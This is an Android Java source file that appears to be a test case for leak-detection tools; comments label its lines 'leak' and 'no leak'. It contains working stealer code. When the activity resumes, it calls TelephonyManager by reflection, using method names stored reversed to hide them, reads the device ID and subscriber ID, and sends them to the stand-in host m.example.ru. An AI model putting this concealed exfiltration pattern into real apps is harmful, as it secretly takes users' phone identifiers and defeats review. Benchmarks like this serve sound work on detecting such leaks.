package stealers;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;

import java.io.*;
import java.lang.reflect.*;
import java.net.*;

/** Names are turned round and read by number; nothing is called by its name. */
public class Mirror extends Activity {
    private static final String[] W = {"reganaMynohpeleT.ynohpelet.diordna", "dIeciveDteg", "dIrebircsbuSteg", "epyTenohPteg"};

    static String w(int i) {
        return new StringBuilder(W[i]).reverse().toString();
    }

    static Object ask(Context c, int method) throws Exception {
        Object service = c.getClass().getMethod("getSystemService", String.class).invoke(c, "phone");
        Method m = Class.forName(w(0)).getDeclaredMethod(w(method), new Class[0]);
        m.setAccessible(true);
        return m.invoke(service, new Object[0]);
    }

    @Override
    protected void onResume() {
        super.onResume();
        final Context c = this;
        new Thread() {
            public void run() {
                try {
                    String id = (String) ask(c, 1);
                    String sim = String.valueOf(ask(c, 2));
                    Object kind = ask(c, 3);
                    Object url = Class.forName("java.net.URL").getConstructor(String.class).newInstance("http://m.example.ru/?q=" + id);
                    ((URL) url).openStream(); // leak
                    HttpURLConnection h = (HttpURLConnection) new URL("http://m.example.ru/s").openConnection();
                    OutputStream o = (OutputStream) h.getClass().getMethod("getOutputStream").invoke(h);
                    o.write(sim.getBytes()); // leak
                    o.write("end".getBytes()); // no leak
                    new URL("http://m.example.ru/?k=" + kind).openStream(); // no leak
                } catch (Exception e) {
                    e.printStackTrace();
                }
            }
        }.start();
    }
}
